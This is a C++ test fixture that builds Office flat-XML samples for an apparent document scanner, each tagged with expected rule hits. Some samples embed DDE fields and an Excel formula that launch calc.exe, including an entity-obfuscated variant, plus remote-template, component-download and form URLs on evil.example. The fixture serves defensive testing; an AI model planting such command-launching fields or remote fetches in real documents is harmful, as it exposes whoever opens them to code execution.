// Office documents in one XML file.
#include <string>

#include "tests/support/disguise.h"
#include "tests/support/office_samples.h"
#include "tests/support/ooxml_snippets.h"

namespace mugai::testing {
namespace {

using B = OoxmlBuilder;
using namespace snippet;
using std::string;

Buffer bytes(const string& text) {
  return {text.begin(), text.end()};
}

const string kRels = "application/vnd.openxmlformats-package.relationships+xml";
const string kMainType = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const string kMacroType = "application/vnd.ms-word.document.macroEnabled.main+xml";

string part(const string& name, const string& type, const string& content, const string& kind = "xmlData") {
  return "<pkg:part pkg:name=\"" + name + "\" pkg:contentType=\"" + type + "\"><pkg:" + kind + ">" + content +
         "</pkg:" + kind + "></pkg:part>";
}
string root_rels() {
  return part("/_rels/.rels", kRels,
              "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship "
              "Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" "
              "Target=\"word/document.xml\"/></Relationships>");
}
string main_part(const string& body, const string& type) {
  return part("/word/document.xml", type,
              "<w:document" + string(kWordNamespaces) + "><w:body>" + p(body) + "</w:body></w:document>");
}
// With what the root declares and the parts around the main one.
string flat(const string& parts, const string& type = kMainType, const string& body = text("inside")) {
  return "<?xml version=\"1.0\" standalone=\"yes\"?><?mso-application progid=\"Word.Document\"?><pkg:package "
         "xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">" +
         root_rels() + main_part(body, type) + parts + "</pkg:package>";
}
string document_rels(const string& relationship) {
  return part("/word/_rels/document.xml.rels", kRels,
              "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" + relationship +
                  "</Relationships>");
}
string macros() {
  return document_rels(
             "<Relationship Id=\"rId9\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" "
             "Target=\"vbaProject.bin\"/>") +
         part("/word/vbaProject.bin", "application/vnd.ms-office.vbaProject", "UEFZ\r\nTE9BRA==", "binaryData");
}
string word2003(const string& attributes, const string& inner) {
  return "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><w:wordDocument "
         "xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\" "
         "xmlns:o=\"urn:schemas-microsoft-com:office:office\"" +
         attributes + ">" + inner + "</w:wordDocument>";
}
string excel2003(const string& inner) {
  return "<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?><Workbook "
         "xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" xmlns:o=\"urn:schemas-microsoft-com:office:office\" "
         "xmlns:x=\"urn:schemas-microsoft-com:office:excel\" "
         "xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\">" +
         inner + "</Workbook>";
}

}  // namespace

std::span<const Sample> flat_samples() {
  static const std::vector<Sample> samples = {
      {"flat/package", "a.xml", false, {"FLAT-001"}, {"xmlPackage"}, {"inside"}, [] { return bytes(flat("")); }},
      {"flat/package-macros",
       "a.xml",
       false,
       {"FLAT-001", "OOXML-036", "OOXML-007"},
       {"PAYLOAD", "vbaProject"},
       {"inside"},
       [] { return bytes(flat(macros(), kMacroType)); }},
      {"flat/package-field",
       "a.doc",
       false,
       {"FLAT-001", "WML-002"},
       {"calc.exe"},
       {"shown"},
       [] { return bytes(flat("", kMainType, field("DDE&#65;UTO calc.exe x", "shown"))); }},
      {"flat/package-prefix",
       "a.xml",
       false,
       {"FLAT-001", "WML-002"},
       {"calc.exe"},
       {"shown"},
       [] {
         return bytes(
             "<package xmlns=\"http://schemas.microsoft.com/office/2006/xmlPackage\" "
             "xmlns:q=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><part name=\"/_rels/.rels\" "
             "contentType=\"" +
             kRels +
             "\"><xmlData><Relationships "
             "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" "
             "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" "
             "Target=\"word/document.xml\"/></Relationships></xmlData></part><part name=\"/word/document.xml\" "
             "contentType=\"" +
             kMainType +
             "\"><xmlData><q:document><q:body><q:p><q:fldSimple q:instr=\"DDE "
             "calc.exe\"><q:r><q:t>shown</q:t></q:r></q:fldSimple></q:p></q:body></q:document></xmlData></part></"
             "package>");
       }},
      {"flat/package-twice",
       "a.xml",
       true,
       {"FLAT-001"},
       {},
       {},
       [] { return bytes(flat(main_part(text("other"), kMainType))); }},
      {"flat/package-cut",
       "a.xml",
       true,
       {"FLAT-001"},
       {},
       {},
       [] {
         const string whole = flat(macros());
         return bytes(whole.substr(0, whole.size() - 20));
       }},
      {"flat/word-macros",
       "a.xml",
       true,
       {"FLAT-002", "FLAT-004"},
       {},
       {},
       [] {
         return bytes(word2003(
             " w:macrosPresent=\"yes\"",
             "<w:docSuppData><w:binData w:name=\"editdata.mso\">QWN0aXZlTWltZQ==</w:binData></w:docSuppData>"));
       }},
      {"flat/word-macros-hidden",
       "a.doc",
       true,
       {"FLAT-002"},
       {},
       {},
       [] {
         return bytes(
             "<q:wordDocument xmlns:q=\"http://schemas.microsoft.com/office/word/2003/wordml\"><q:docOther><q:binData "
             "q:name=\"&#101;dit&#x64;ata.mso\">QUJD</q:binData></q:docOther></q:wordDocument>");
       }},
      {"flat/word-objects",
       "a.xml",
       true,
       {"FLAT-003"},
       {},
       {},
       [] {
         return bytes(word2003(" w:embeddedObjPresent=\"yes\"",
                               "<w:docOleData><w:binData w:name=\"oledata.mso\">QUJD</w:binData></w:docOleData>"));
       }},
      {"flat/word-objects-renamed",
       "a.xml",
       true,
       {"FLAT-003"},
       {},
       {},
       [] { return bytes(word2003("", "<w:docOleData\n><w:binData w:name=\"x\">QUJD</w:binData></w:docOleData>")); }},
      {"flat/word-template",
       "a.xml",
       true,
       {"FLAT-004"},
       {},
       {},
       [] {
         return bytes(word2003("", "<w:docPr><w:attachedTemplate w:val=\"http://evil.example/t.dot\"/></w:docPr>"));
       }},
      {"flat/word-template-default",
       "a.xml",
       true,
       {"FLAT-004"},
       {},
       {},
       [] {
         return bytes(
             "<wordDocument xmlns=\"http://schemas.microsoft.com/office/word/2003/wordml\"><body/></wordDocument>");
       }},
      {"flat/excel-formula",
       "a.xml",
       true,
       {"FLAT-005"},
       {},
       {},
       [] {
         return bytes(
             excel2003("<Worksheet ss:Name=\"a\"><Table><Row><Cell ss:Formula=\"=cmd|'/c calc'!A0\"><Data "
                       "ss:Type=\"Number\">0</Data></Cell></Row></Table></Worksheet>"));
       }},
      {"flat/excel-prefix",
       "a.xls",
       true,
       {"FLAT-005"},
       {},
       {},
       [] {
         return bytes(
             "<zz:Workbook xmlns:zz=\"urn:schemas-microsoft-com:office:spreadsheet\"><zz:Worksheet/></zz:Workbook>");
       }},
      {"flat/download",
       "a.xml",
       true,
       {"FLAT-006"},
       {},
       {},
       [] {
         return bytes(
             excel2003("<o:OfficeDocumentSettings><o:DownloadComponents/><o:LocationOfComponents "
                       "HRef=\"http://evil.example/\"/></o:OfficeDocumentSettings>"));
       }},
      {"flat/download-tags",
       "a.xml",
       true,
       {"FLAT-006"},
       {},
       {},
       [] {
         return bytes(word2003("",
                               "<o:SmartTagType o:name=\"x\" o:namespaceuri=\"u\" "
                               "o:downloa&#100;url=\"http://evil.example/\" o:downloadurl=\"x\"/>"));
       }},
      {"flat/form",
       "a.xml",
       true,
       {"FLAT-007"},
       {},
       {},
       [] {
         return bytes(
             "<?xml version=\"1.0\"?><?mso-infoPathSolution href=\"http://evil.example/m.xsn\"?><my:f "
             "xmlns:my=\"u\"/>");
       }},
      {"flat/drawing",
       "a.vdx",
       true,
       {"FLAT-007"},
       {},
       {},
       [] {
         return bytes("<?xml version=\"1.0\"?><VisioDocument xmlns=\"http://schemas.microsoft.com/visio/2003/core\"/>");
       }},
      {"flat/plan",
       "a.xml",
       true,
       {"FLAT-007"},
       {},
       {},
       [] {
         return bytes(
             "<?xml version=\"1.0\"?><Project xmlns=\"http://schemas.microsoft.com/project\"><Name>x</Name></Project>");
       }},
  };
  return samples;
}

}  // namespace mugai::testing
